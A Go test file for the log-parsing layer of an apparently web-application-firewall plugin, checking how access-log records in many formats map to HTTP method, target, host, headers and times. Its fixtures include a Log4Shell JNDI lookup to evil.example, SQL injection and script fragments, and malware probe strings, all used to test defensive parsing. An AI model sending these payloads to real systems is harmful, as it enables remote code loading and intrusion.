package fieldmap

import (
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/fluent-bit-waf/fluent-bit-waf/rules"
)

// requestOf returns method, target, version and host of a record as auto reads it, "" when it is no HTTP transaction.
func requestOf(t *testing.T, json string) (text string, tx *rules.Transaction) {
	t.Helper()
	tx, _ = read(t, open(t, "auto"), json)
	if tx == nil || tx.Method == "" {
		return "", tx
	}
	host, _ := tx.Header("Host")
	return tx.Method + " " + tx.URI + " " + tx.Protocol + " " + host, tx
}

func TestTargetsAreReadInEveryForm(t *testing.T) {
	const nginx = `{"remote_addr":"192.0.2.1",`
	for name, one := range map[string]struct{ json, want string }{
		"a URL with a fragment":             {`{"http.request.method":"GET","url.full":"https://a.example/s?q=x#top"}`, "GET /s?q=x HTTP/1.1 a.example"},
		"a fragment that was sent":          {nginx + `"request":"GET /s#x HTTP/1.1","http_host":"a"}`, "GET /s#x HTTP/1.1 a"},
		"host/path":                         {`{"httpRequest":{"requestMethod":"GET","requestUrl":"a.example/s?q=x"}}`, "GET /s?q=x HTTP/1.1 a.example"},
		"host:port/path":                    {`{"httpRequest":{"requestMethod":"GET","requestUrl":"localhost:8080/s"}}`, "GET /s HTTP/1.1 localhost:8080"},
		"host?query":                        {`{"httpRequest":{"requestMethod":"GET","requestUrl":"a.example?q=x"}}`, "GET /?q=x HTTP/1.1 a.example"},
		"a path alone":                      {`{"httpRequest":{"requestMethod":"GET","requestUrl":"/s?q=x"}}`, "GET /s?q=x HTTP/1.1 "},
		"no host before the slash":          {`{"httpRequest":{"requestMethod":"GET","requestUrl":"static/x.js"}}`, "GET static/x.js HTTP/1.1 "},
		"an absolute URL in HTTP/2":         {nginx + `"request":"GET https://a.example/x?y=1 HTTP/2.0"}`, "GET /x?y=1 HTTP/2.0 a.example"},
		"an absolute URL in HTTP/3":         {`{"client_ip":"192.0.2.1","http_verb":"GET","http_request":"https://a.example","http_version":"HTTP/3"}`, "GET / HTTP/3 a.example"},
		"a URL sent to a proxy":             {nginx + `"request":"GET http://a.example/x HTTP/1.1"}`, "GET http://a.example/x HTTP/1.1 a.example"},
		"a URL sent to a proxy, and Host":   {nginx + `"request":"GET http://b.example/x HTTP/1.1","http_host":"a"}`, "GET http://b.example/x HTTP/1.1 a"},
		"CONNECT":                           {nginx + `"request":"CONNECT a.example:443 HTTP/1.1"}`, "CONNECT a.example:443 HTTP/1.1 a.example:443"},
		"OPTIONS":                           {nginx + `"request":"OPTIONS * HTTP/1.1","http_host":"a"}`, "OPTIONS * HTTP/1.1 a"},
		"a decoded path":                    {nginx + `"request_method":"GET","uri":"/a#b?c d%","args":"x=%20"}`, "GET /a%23b%3Fc%20d%25?x=%20 HTTP/1.1 "},
		"a decoded path beside the line":    {nginx + `"request":"GET /a%20b HTTP/1.1","uri":"/a b"}`, "GET /a%20b HTTP/1.1 "},
		"ECS, as it was sent":               {`{"http":{"request":{"method":"GET"}},"url":{"full":"http://b/?x","original":"/?q=1","path":"/"},"source":{"ip":"192.0.2.1"}}`, "GET /?q=1 HTTP/1.1 b"},
		"ECS, absolute":                     {`{"http":{"request":{"method":"GET"}},"url":{"original":"https://a.example/?q=1"},"ecs":{"version":"8"}}`, "GET /?q=1 HTTP/1.1 a.example"},
		"ECS, path and query":               {`{"http.request.method":"GET","url.path":"/a","url.query":"q=1","url.domain":"d","event.dataset":"iis.access"}`, "GET /a?q=1 HTTP/1.1 d"},
		"ECS, the query apart":              {`{"http.request.method":"get","url.original":"/a","url.query":"q=1' or 50%","event.module":"iis"}`, "GET /a?q=1'%20or%2050%25 HTTP/1.1 "},
		"ECS names in OpenTelemetry":        {`{"http.request.method":"GET","url.original":"/?q=1","url.path":"/","source.ip":"192.0.2.1"}`, "GET /?q=1 HTTP/1.1 "},
		"a target under the decoded name":   {nginx + `"request_method":"GET","uri":"/a?q=1%27"}`, "GET /a?q=1%27 HTTP/1.1 "},
		"the host of a URL, and another":    {`{"client:port":"192.0.2.1:1","elb_status_code":200,"request":"GET https://a.example:443/ HTTP/1.1","domain_name":"sni"}`, "GET / HTTP/1.1 a.example"},
		"a version of four numbers":         {`{"properties":{"socketIp":"192.0.2.1","httpMethod":"GET","requestUri":"https://a/","httpVersion":"2.0.0.0","httpStatusCode":"200"}}`, "GET / HTTP/2.0 a"},
		"a version in lower case":           {nginx + `"request_method":"GET","request_uri":"/","server_protocol":"http/1.0"}`, "GET / HTTP/1.0 "},
		"a method that nginx takes for one": {nginx + `"request":"- /a HTTP/1.1"}`, "- /a HTTP/1.1 "},
		"the same, in a key":                {nginx + `"request_method":"-","request_uri":"/a"}`, "- /a HTTP/1.1 "},
		"a blank before the method":         {nginx + `"request":" GET /a HTTP/1.1"}`, " GET /a HTTP/1.1 "},
	} {
		got, _ := requestOf(t, one.json)
		require.Equal(t, one.want, got, name)
	}
}

func TestWhatStandsBehindAFragmentIsNotSeen(t *testing.T) {
	for url, partial := range map[string]rules.Partial{
		"https://a/s#top": 0, "https://a/s#": 0, "https://a/s?q=1#' or 1=1--": rules.PartialArguments, "a/s#%27": rules.PartialArguments,
	} {
		_, tx := requestOf(t, `{"httpRequest":{"requestMethod":"GET","requestUrl":"`+url+`"}}`)
		require.Equal(t, partial, tx.Partial, url)
	}
}

func TestForwardingListsAreHeadersToo(t *testing.T) {
	const text = "${jndi:ldap://evil.example/a}"
	for _, json := range []string{
		`{"remote_addr":"192.0.2.1","request_method":"GET","request_uri":"/","http_x_forwarded_for":"` + text + `"}`,
		`{"RequestMethod":"GET","RequestPath":"/","ClientHost":"192.0.2.1","request_X-Forwarded-For":"` + text + `"}`,
		`{"method":"GET","path":"/","response_code":200,"response_flags":"-","x_forwarded_for":"` + text + `"}`,
		`{"cs-method":"GET","cs-uri-stem":"/","x-edge-location":"FRA","x-forwarded-for":"` + text + `"}`,
		`{"cs-method":"GET","cs-uri-stem":"/","c-ip":"192.0.2.1","X-Forwarded-For":"` + text + `"}`,
		`{"method":"GET","path":"/","vhost":"a","request_query":"","x_forwarded_for":"` + text + `"}`,
		`{"remote":"192.0.2.1","host":"-","method":"GET","path":"/","code":"200","http_x_forwarded_for":"` + text + `"}`,
	} {
		_, tx := requestOf(t, json)
		got, _ := tx.Header("X-Forwarded-For")
		require.Equal(t, text, got, json)
	}
}

func TestTimesThatSourcesWriteInTwoKeys(t *testing.T) {
	for json, want := range map[string]string{
		`{"cs-method":"GET","cs-uri-stem":"/","c-ip":"192.0.2.1","date":"2024-05-30","time":"07:16:48"}`:    "2024-05-30 07:16:48",
		`{"cs-method":"GET","cs-uri-stem":"/","c-ip":"192.0.2.1","date":"x","time":"2024-05-30T07:16:48Z"}`: "2024-05-30T07:16:48Z",
		`{"RequestMethod":"GET","RequestPath":"/","ClientHost":"192.0.2.1","time":"2024-05-30T07:16:48Z"}`:  "2024-05-30T07:16:48Z",
		`{"remote_addr":"192.0.2.1","request":"GET / HTTP/1.1","@timestamp":"2024-05-30T07:16:48Z"}`:        "2024-05-30T07:16:48Z",
	} {
		_, v := read(t, open(t, "auto"), json)
		require.Equal(t, want, v.Get(Time), json)
	}
}

func TestALineWithoutAVersionIsCut(t *testing.T) {
	for line, target := range map[string]string{
		"GET /s?q=aaaa": "/s?q=aaaa", "GET /s?q=a b": "/s?q=a b", "GET /s?q=a HTT": "/s?q=a", "GET /s HTTP/": "/s", "GET / ": "/",
		"get /<script> x y": "/<script> x y",
	} {
		got, tx := requestOf(t, `{"remote_addr":"192.0.2.1","http_user_agent":"x","request":"`+line+`"}`)
		require.Equal(t, line[:3]+" "+target+" HTTP/1.1 ", got, line)
		require.NotZero(t, tx.Unknown&rules.PartProtocol, line)
		require.NotZero(t, tx.Unknown&rules.PartEscapes, line)
		require.Equal(t, rules.PartialArguments, tx.Partial, line)
	}
	got, tx := requestOf(t, `{"remote_addr":"192.0.2.1","request":"GET /","server_protocol":"HTTP/0.9"}`)
	require.Equal(t, "GET / HTTP/0.9 ", got)
	require.Zero(t, tx.Unknown&rules.PartProtocol)
	require.Zero(t, tx.Partial)
}

func TestWhatIsNoRequestIsNotHTTP(t *testing.T) {
	for _, line := range []string{
		`\u0003\u0000\u0000/*\u00e0\u0000\u0000\u0000\u0000\u0000Cookie: mstshash=user`, `\u0016\u0003\u0001\u0002\u0000\u0001 x`,
		`lv|'|'|VHJvamFu|'|'|Win XP|'|'|No|'|'|[endof]`, `MGLNDD_192.0.2.1_443`, `- http://alb.example.com:80- -`, `- - - `, `-`, `- `, ``,
		`SSH-2.0-Go`, `\u0000`, `EHLO there`, `user anonymous`, `{"method": "login"}`, `GET`, `\u0005\u0001\u0000 a HTTP/1.1`,
	} {
		got, _ := requestOf(t, `{"remote_addr":"192.0.2.1","http_user_agent":"","status":"400","request":`+quotedJSON(line)+`}`)
		require.Empty(t, got, line)
	}
	for _, line := range []string{"GET / HTTP/1.1", "BREW /pot HTTP/1.0", "get /", "M-SEARCH * HTTP/1.1", "X http://a/ y", "GET x", "PROPFIND /a"} {
		got, _ := requestOf(t, `{"remote_addr":"192.0.2.1","http_user_agent":"","status":"400","request":`+quotedJSON(line)+`}`)
		require.NotEmpty(t, got, line)
	}
	for _, method := range []string{`\\x16\\x03\\x01`, "-", "<BADREQ>", `lv|'|'|Win`, "", "G T", "G\\u00c9T"} {
		got, _ := requestOf(t, `{"remote":"192.0.2.1","host":"-","method":"`+method+`","path":"XP|'|","code":"400","agent":"-"}`)
		require.Empty(t, got, method)
	}
}

// quotedJSON returns a text whose escapes are those of JSON as JSON.
func quotedJSON(text string) string {
	quoted := `"`
	for _, c := range text {
		if c == '"' {
			quoted += `\`
		}
		quoted += string(c)
	}
	return quoted + `"`
}

func TestPseudoHeadersAreNoHeaders(t *testing.T) {
	for name, json := range map[string]string{
		"a raw head":                `{"REQ_HEADER":"GET /x HTTP/2\r\n:authority: a.example\r\n:scheme: https\r\naccept: */*\r\n\r\n"}`,
		"a raw head without a line": `{"REQ_HEADER":":method: GET\r\n:path: /x\r\n:authority: a.example\r\naccept: */*\r\n\r\n"}`,
		"a list": `{"event_type":"http","http":{"url":"/x","http_method":"GET","version":"2","request_headers":[{"name":":method","value":"GET"},` +
			`{"name":":authority","value":"a.example"},{"name":"accept","value":"*/*"}]}}`,
		"a map": `{"request":{"method":"GET","uri":"/x","proto":"HTTP/2.0","headers":{":authority":["a.example"],":path":["/x"],"accept":["*/*"]}}}`,
	} {
		got, tx := requestOf(t, json)
		require.Contains(t, []string{"GET /x HTTP/2 a.example", "GET /x HTTP/2.0 a.example"}, got, name)
		require.ElementsMatch(t, []string{"accept", "Host"}, namesOf(tx.RequestHeaders), name)
		require.Zero(t, tx.Partial, name)
		require.Zero(t, tx.Unknown&(rules.PartHost|rules.PartHostName), name)
	}
	for name, json := range map[string]string{
		"another path":     `{"REQ_HEADER":"GET /x HTTP/2\r\nHost: b\r\n:path: /y\r\n\r\n"}`,
		"another method":   `{"REQ_HEADER":"GET /x HTTP/2\r\nHost: b\r\n:method: POST\r\n\r\n"}`,
		"another host":     `{"REQ_HEADER":"GET /x HTTP/2\r\nHost: b\r\n:authority: a\r\n\r\n"}`,
		"a path twice":     `{"REQ_HEADER":":method: GET\r\n:path: /x\r\n:path: /y\r\nHost: b\r\n\r\n"}`,
		"an odd scheme":    `{"REQ_HEADER":"GET /x HTTP/2\r\nHost: b\r\n:scheme: ${jndi:x}\r\n\r\n"}`,
		"a path in a list": `{"event_type":"http","http":{"url":"/x","http_method":"GET","request_headers":[{"name":":path","value":"/y"}]}}`,
		"a host in a list": `{"event_type":"http","http":{"url":"/x","http_method":"GET","request_headers":[{"name":":authority","value":"a"},{"name":"host","value":"b"}]}}`,
		"in HTTP/1.1":      `{"REQ_HEADER":"GET /x HTTP/1.1\r\nHost: b\r\n:authority: a.example\r\n\r\n"}`,
		"an unknown name":  `{"REQ_HEADER":"GET /x HTTP/2\r\nHost: b\r\n:evil: a.example\r\n\r\n"}`,
	} {
		_, tx := requestOf(t, json)
		require.Equal(t, rules.PartialHeaders, tx.Partial, name)
	}
	_, tx := requestOf(t, `{"REQ_HEADER":"GET /x HTTP/2\r\naccept: */*\r\n\r\n"}`)
	require.NotZero(t, tx.Unknown&rules.PartHost, "the host was not logged")
}

func namesOf(headers []rules.Header) (names []string) {
	for _, h := range headers {
		names = append(names, h.Name)
	}
	return names
}
